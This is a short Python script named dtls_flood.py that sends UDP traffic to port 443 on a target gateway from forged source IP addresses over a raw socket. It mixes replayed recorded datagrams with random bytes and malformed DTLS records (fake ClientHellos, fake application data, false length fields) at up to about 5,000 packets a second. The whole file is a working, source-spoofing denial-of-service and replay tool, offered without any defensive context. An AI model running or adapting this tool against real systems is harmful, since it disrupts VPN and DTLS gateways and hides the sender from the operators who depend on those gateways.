"""Sends UDP datagrams to the gateway's port from source addresses that are not this device's.

    dtls_flood.py GATEWAY COUNT SOURCE... < HEX

Each line of standard input is a datagram in hexadecimal digits, sent in turn; between them go random bytes and
random bytes behind a DTLS record header. At most 5,000 a second.
"""
import os
import random
import socket
import struct
import sys
import time


def udp_packet(source, destination, payload):
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 443, 8 + len(payload), 0) + payload
    # The kernel fills in the checksum of the header, the identification and the length.
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination)
    )
    return head + udp


def garbage(index):
    noise = os.urandom(random.randrange(0, 1200))
    kind = index % 4
    if kind == 0:
        return noise
    if kind == 1:
        # Looks like data of a live association.
        return struct.pack("!BHHHIH", 23, 0xFEFD, 1, 0, index, len(noise)) + noise
    if kind == 2:
        # Says that it is a ClientHello.
        return struct.pack("!BHHHIH", 22, 0xFEFF, 0, 0, index, len(noise)) + b"\x01" + noise
    return struct.pack("!BHHHIH", 23, 0xFEFD, 1, 0, index, 0xFFFF) + noise


def main():
    gateway, count = sys.argv[1], int(sys.argv[2])
    sources = sys.argv[3:]
    recorded = [bytes.fromhex(line) for line in sys.stdin.read().split()]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for index in range(count):
            payload = recorded[index % len(recorded)] if recorded and index % 2 else garbage(index // 2)
            raw.sendto(udp_packet(sources[index % len(sources)], gateway, payload), (gateway, 0))
            if index % 50 == 49:
                time.sleep(0.01)
    print(count)


main()
